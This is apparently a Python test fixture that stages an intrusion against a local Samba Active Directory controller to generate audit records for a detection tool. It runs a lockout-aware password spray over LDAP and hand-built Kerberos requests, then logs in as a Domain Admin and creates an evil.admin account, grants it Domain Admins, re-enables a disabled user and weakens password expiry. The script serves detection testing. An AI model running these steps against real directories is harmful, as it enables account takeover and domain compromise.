#!/usr/bin/python3
# Plays an intrusion against a live Samba AD DC (the incident DC Tests/Scripts/samba-incident.sh
# starts), so that the DC writes the audit trail relay-audit must read: real records of real
# operations, not written by hand.
#
#   samba-incident.py IP CA_FILE OUT_JSON
#
# 1. A password spray from 24 loopback addresses (127.0.1.1 to 127.0.1.24), two tries each over
#    17 usernames, three per username at most (the lockout threshold is 5): failed LDAP simple binds from the
#    first 16 addresses, failed Kerberos pre-authentications (AS-REQ with a PA-ENC-TIMESTAMP the
#    account's key cannot decrypt) from the last 8.
# 2. The spray's guess for it.support (a Domain Admin) succeeds from 127.0.1.7, one of its
#    addresses: an LDAP bind and a Kerberos pre-authentication with the right password.
# 3. As it.support, from 127.0.1.7 over LDAPS: create evil.admin, add it to Domain Admins,
#    enable disabled.user again, reset its password, set DONT_EXPIRE_PASSWORD on carol.brown.
#
# What was done, with the moments, goes to OUT_JSON for the tests to hold relay-audit's reading
# against. Needs: ldap-utils (ldapsearch, ldapmodify; OpenLDAP 2.5's LDAPSOCKET_BIND_ADDRESSES
# picks the source address) and a KDC on IP:88 (server services = ldap kdc).
import base64
import json
import os
import socket
import struct
import subprocess
import sys
import time

IP, CA, OUT = sys.argv[1], sys.argv[2], sys.argv[3]
REALM = "CORP.EXAMPLE.TEST"
DOMAIN = "corp.example.test"
BASE = "DC=corp,DC=example,DC=test"
STAFF = "OU=Staff,OU=Corp," + BASE
PASSWORD = "Fixture-Passw0rd!"
ACTOR, ACTOR_ADDRESS = "it.support", "127.0.1.7"
SPRAYED = ["alice.johnson", "bob.smith", "carol.brown", "kiosk.user", "it.support", "stale.user", "never.user", "svc.web",
           "nested.admin", "bulk0001", "bulk0002", "bulk0003", "bulk0004", "bulk0005", "bulk0006", "bulk0007", "bulk0008"]
ADDRESSES = ["127.0.1.%d" % i for i in range(1, 25)]


def now():
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())


def ldap(tool, source, user, password, ldif=None):
    env = dict(os.environ, LDAPTLS_CACERT=CA, LDAPSOCKET_BIND_ADDRESSES=source)
    args = [tool, "-x", "-H", "ldaps://" + IP, "-D", "%s@%s" % (user, DOMAIN), "-w", password]
    if tool == "ldapsearch":  # a bind, then the root DSE
        args += ["-s", "base", "-b", "", "1.1"]
    return subprocess.run(args, input=ldif, env=env, capture_output=True, text=True)


# ---- a Kerberos AS-REQ, DER by hand (RFC 4120 section 5.4.1) ---------------------------------
def der(tag, body):
    n = len(body)
    if n < 0x80:
        length = bytes([n])
    else:
        octets = n.to_bytes((n.bit_length() + 7) // 8, "big")
        length = bytes([0x80 | len(octets)]) + octets
    return bytes([tag]) + length + body


def integer(value):
    return der(0x02, value.to_bytes((value.bit_length() + 8) // 8, "big", signed=True))


def context(n, body):
    return der(0xA0 + n, body)


def sequence(*items):
    return der(0x30, b"".join(items))


def general_string(text):
    return der(0x1B, text.encode())


def principal(kind, *names):
    return sequence(context(0, integer(kind)), context(1, sequence(*[general_string(n) for n in names])))


def as_req(user, padata):
    body = sequence(
        context(0, der(0x03, b"\x00\x50\x80\x00\x10")),  # forwardable, proxiable, renewable, renewable-ok
        context(1, principal(1, user)),
        context(2, general_string(REALM)),
        context(3, principal(2, "krbtgt", REALM)),
        context(5, der(0x18, b"20370913024805Z")),
        context(7, integer(int.from_bytes(os.urandom(4), "big") >> 1)),
        context(8, sequence(integer(23))))
    request = [context(1, integer(5)), context(2, integer(10))]
    if padata is not None:
        request.append(context(3, sequence(padata)))
    request.append(context(4, body))
    return der(0x6A, sequence(*request))


def kdc(source, message):
    """Sends one request over TCP from `source`; returns the KRB-ERROR code (0 for a reply)."""
    with socket.create_connection((IP, 88), timeout=10, source_address=(source, 0)) as s:
        s.sendall(struct.pack(">I", len(message)) + message)
        length = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))[0]
        reply = s.recv(length, socket.MSG_WAITALL)
    if reply[0] == 0x6B:  # AS-REP
        return 0
    # KRB-ERROR: error-code is [6] INTEGER.
    at = reply.find(b"\xa6\x03\x02\x01")
    return reply[at + 4] if at >= 0 else -1


def wrong_preauth(source, user):
    """A pre-authentication the KDC cannot decrypt: what a wrong password sends."""
    encrypted = sequence(context(0, integer(23)), context(2, der(0x04, os.urandom(52))))
    return kdc(source, as_req(user, sequence(context(1, integer(2)), context(2, der(0x04, encrypted)))))


def right_login(source, user):
    """A real Kerberos login with the right password (kinit cannot choose its address, so the
    key is derived and the timestamp encrypted here with the DC's own Python crypto)."""
    from samba.tests.krb5 import kcrypto  # Debian's python3-samba
    # RC4-HMAC (the NT hash): the fixture's accounts have their password set by hash, so the
    # DC holds no AES keys for them.
    key = kcrypto.string_to_key(kcrypto.Enctype.RC4, PASSWORD.encode(), b"")
    stamp = sequence(context(0, der(0x18, time.strftime("%Y%m%d%H%M%SZ", time.gmtime()).encode())))
    cipher = kcrypto.encrypt(key, 1, stamp)  # key usage 1: PA-ENC-TIMESTAMP
    encrypted = sequence(context(0, integer(23)), context(2, der(0x04, cipher)))
    return kdc(source, as_req(user, sequence(context(1, integer(2)), context(2, der(0x04, encrypted)))))


def unicode_pwd(password):
    return base64.b64encode(('"%s"' % password).encode("utf-16-le")).decode()


record = {"dc": IP, "actor": ACTOR, "actor_address": ACTOR_ADDRESS, "spray": [], "changes": []}
record["spray_start"] = now()
tries = {}
for index, address in enumerate(ADDRESSES):
    for k in range(2):
        user = SPRAYED[(index * 2 + k) % len(SPRAYED)]
        tries[user] = tries.get(user, 0) + 1
        if index < 16:
            result = ldap("ldapsearch", address, user, "Summer2026!")
            outcome = "ldap 49" if "Invalid credentials (49)" in result.stderr else "ldap other: " + result.stderr.strip()
        else:
            outcome = "kerberos %d" % wrong_preauth(address, user)
        record["spray"].append({"address": address, "user": user, "outcome": outcome})
assert max(tries.values()) <= 3, tries
record["spray_end"] = now()
time.sleep(1)

# The guess that worked: from a spray address, over LDAP and Kerberos.
record["entry"] = now()
entry = ldap("ldapsearch", ACTOR_ADDRESS, ACTOR, PASSWORD)
assert entry.returncode == 0, entry.stderr
record["entry_kerberos"] = right_login(ACTOR_ADDRESS, ACTOR)
time.sleep(1)

changes = [
    ("create", "evil.admin", """dn: CN=evil.admin,CN=Users,%s
changetype: add
objectClass: user
sAMAccountName: evil.admin
userPrincipalName: evil.admin@%s
unicodePwd:: %s
userAccountControl: 512
""" % (BASE, DOMAIN, unicode_pwd("Evil-Passw0rd-1!"))),
    ("add-member", "evil.admin", """dn: CN=Domain Admins,CN=Users,%s
changetype: modify
add: member
member: CN=evil.admin,CN=Users,%s
""" % (BASE, BASE)),
    ("enable", "disabled.user", """dn: CN=disabled.user,%s
changetype: modify
replace: userAccountControl
userAccountControl: 512
""" % STAFF),
    ("reset-password", "disabled.user", """dn: CN=disabled.user,%s
changetype: modify
replace: unicodePwd
unicodePwd:: %s
""" % (STAFF, unicode_pwd("Evil-Passw0rd-2!"))),
    ("weaken", "carol.brown", """dn: CN=carol.brown,%s
changetype: modify
replace: userAccountControl
userAccountControl: 66048
""" % STAFF),
]
for what, target, ldif in changes:
    at = now()
    result = ldap("ldapmodify", ACTOR_ADDRESS, ACTOR, PASSWORD, ldif)
    assert result.returncode == 0, "%s %s: %s" % (what, target, result.stderr)
    record["changes"].append({"change": what, "target": target, "at": at})
record["end"] = now()
with open(OUT, "w") as f:
    json.dump(record, f, indent=1)
print("incident played on %s: %d spray tries, entry as %s from %s, %d changes"
      % (IP, len(record["spray"]), ACTOR, ACTOR_ADDRESS, len(record["changes"])))
